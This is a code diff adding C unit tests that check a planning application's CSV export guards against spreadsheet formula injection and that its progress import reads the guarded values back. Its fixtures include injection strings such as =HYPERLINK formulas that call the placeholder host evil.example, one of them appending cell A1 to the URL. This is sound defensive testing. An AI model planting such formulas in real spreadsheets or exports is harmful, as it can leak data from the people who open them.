@@ -11,6 +11,7 @@
 #include "jp-document-import.h"
 #include "jp-json.h"
 #include "jp-model.h"
+#include "jp-progress-import.h"
 #include "jp-report.h"
 
 #define BOM "\xEF\xBB\xBF"
@@ -434,6 +435,129 @@ test_parse_unclosed (void)
   g_assert_true (g_str_has_prefix (error->message, "进展.csv:2: "));
 }
 
+/* Formula injection (OWASP "CSV injection"): a text cell that starts like
+ * a formula gets a leading apostrophe; numbers do not; the reader of our
+ * own table (the progress import) gets the text back. */
+static void
+test_guard (void)
+{
+  static const struct { const char *in; const char *out; } cases[] = {
+    { "=HYPERLINK(\"http://evil.example\",\"x\")",
+      "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"" },
+    { "+1+2",              "'+1+2" },
+    { "-2+3",              "'-2+3" },
+    { "@SUM(A1)",          "'@SUM(A1)" },
+    { "\t=1",              "\"'\t=1\"" },
+    { "\r=1",              "\"'\r=1\"" },
+    { "  =1",              "'  =1" },
+    { "'=1",               "''=1" },
+    { "''-1",              "'''-1" },
+    { "plain",             "plain" },
+    { "'quoted",           "'quoted" },
+    { "a=b",               "a=b" },
+    { "一、=开头",         "一、=开头" },
+    { "",                  "" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autoptr(GString) out = g_string_new (NULL);
+      g_autoptr(GPtrArray) records = NULL;
+      g_autoptr(GError) error = NULL;
+
+      g_test_message ("%s", cases[i].in);
+      jp_csv_append_text_field (out, cases[i].in);
+      g_assert_cmpstr (out->str, ==, cases[i].out);
+
+      records = jp_csv_parse (out->str, out->len, ',', "t", &error);
+      g_assert_no_error (error);
+      if (*cases[i].in == '\0')
+        continue;
+      g_assert_cmpuint (records->len, ==, 1);
+      /* The reader keeps the apostrophe; jp_csv_strip_guard() removes
+       * exactly the one that was added ("\r" reads back as "\n"). */
+      if (strchr (cases[i].in, '\r') == NULL)
+        g_assert_cmpstr (jp_csv_strip_guard (field (records, 0, 0)), ==, cases[i].in);
+    }
+
+  g_assert_cmpstr (jp_csv_strip_guard ("'quoted"), ==, "'quoted");
+  g_assert_cmpstr (jp_csv_strip_guard ("'=x"), ==, "=x");
+}
+
+static void
+test_export_formula_injection (void)
+{
+  g_autoptr(JpPlan) plan = load_fixture_plan ();
+  g_autoptr(GPtrArray) items = jp_plan_dup_items (plan);
+  JpItem *item = g_ptr_array_index (items, 0);
+  g_autoptr(JpIndicator) indicator = g_list_model_get_item (jp_item_get_indicators (item), 0);
+  g_autoptr(JpIndicator) other = g_list_model_get_item (jp_item_get_indicators (item), 1);
+  g_autoptr(GPtrArray) records = NULL;
+  g_autoptr(GString) edited = g_string_new (NULL);
+  g_autoptr(GBytes) bytes = NULL;
+  g_autoptr(JpProgressImport) import = NULL;
+  g_autoptr(JpProgressRow) row = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *text = NULL;
+  gsize length = 0;
+
+  jp_item_set_title (item, "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")");
+  jp_indicator_set_name (indicator, "=1+2");
+  jp_indicator_set_unit (indicator, "@x");
+  jp_indicator_set_name (other, "-非法");
+  jp_indicator_set_target (other, -0.5);
+
+  text = jp_csv_export_indicators (plan, "2023-06-30", NULL, &length, &error);
+  g_assert_no_error (error);
+  g_assert_nonnull (strstr (text, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\","));
+  g_assert_null (strstr (text, ",=HYPERLINK"));
+  g_assert_null (strstr (text, ",\"=HYPERLINK"));
+  g_assert_nonnull (strstr (text, ",'=1+2,"));
+  g_assert_nonnull (strstr (text, ",'@x,"));
+  g_assert_nonnull (strstr (text, ",'-非法,"));
+  /* A negative number in a number column stays a number. */
+  g_assert_nonnull (strstr (text, ",-0.5,"));
+  g_assert_null (strstr (text, "'-0.5"));
+
+  records = parse_export (text, length);
+  g_assert_cmpstr (field (records, 1, JP_CSV_COLUMN_ITEM), ==,
+                   "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")");
+  g_assert_cmpstr (field (records, 1, JP_CSV_COLUMN_INDICATOR), ==, "'=1+2");
+  g_assert_cmpstr (field (records, 2, JP_CSV_COLUMN_TARGET), ==, "-0.5");
+
+  /* The progress import reads the guarded names back: a value filled in
+   * the row of "=1+2" goes to that indicator. */
+  for (guint r = 0; r < records->len; r++)
+    {
+      JpCsvRecord *record = g_ptr_array_index (records, r);
+
+      if (r == 1)
+        {
+          g_free (g_ptr_array_index (record->fields, JP_CSV_COLUMN_VALUE));
+          g_ptr_array_index (record->fields, JP_CSV_COLUMN_VALUE) = g_strdup ("42");
+        }
+      for (guint c = 0; c < record->fields->len; c++)
+        {
+          if (c > 0)
+            g_string_append_c (edited, ',');
+          jp_csv_append_field (edited, g_ptr_array_index (record->fields, c));
+        }
+      g_string_append (edited, "\r\n");
+    }
+  bytes = g_bytes_new (edited->str, edited->len);
+  import = jp_progress_import_new_for_bytes (plan, bytes, "export.csv", "2023-09-30", NULL,
+                                             &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (import)), >=, 1);
+  row = g_list_model_get_item (G_LIST_MODEL (import), 0);
+  g_assert_cmpuint (jp_progress_row_get_line (row), ==, 2);
+  g_assert_cmpstr (jp_progress_row_get_message (row), ==, NULL);
+  g_assert_cmpuint (jp_progress_row_get_state (row), ==, JP_PROGRESS_ROW_NEW);
+  g_assert_true (jp_progress_row_get_indicator (row) == indicator);
+  g_assert_cmpfloat (jp_progress_row_get_value (row), ==, 42);
+  g_assert_cmpuint (jp_progress_import_get_n_errors (import), ==, 0);
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -447,6 +571,8 @@ main (int   argc,
   g_test_add_func ("/jp/csv/export-zh-cn", test_export_zh_cn);
   g_test_add_func ("/jp/csv/write-file", test_write_file);
   g_test_add_func ("/jp/csv/append-field", test_append_field);
+  g_test_add_func ("/jp/csv/guard", test_guard);
+  g_test_add_func ("/jp/csv/export-formula-injection", test_export_formula_injection);
   g_test_add_func ("/jp/csv/parse", test_parse);
   g_test_add_func ("/jp/csv/parse-unclosed", test_parse_unclosed);
 
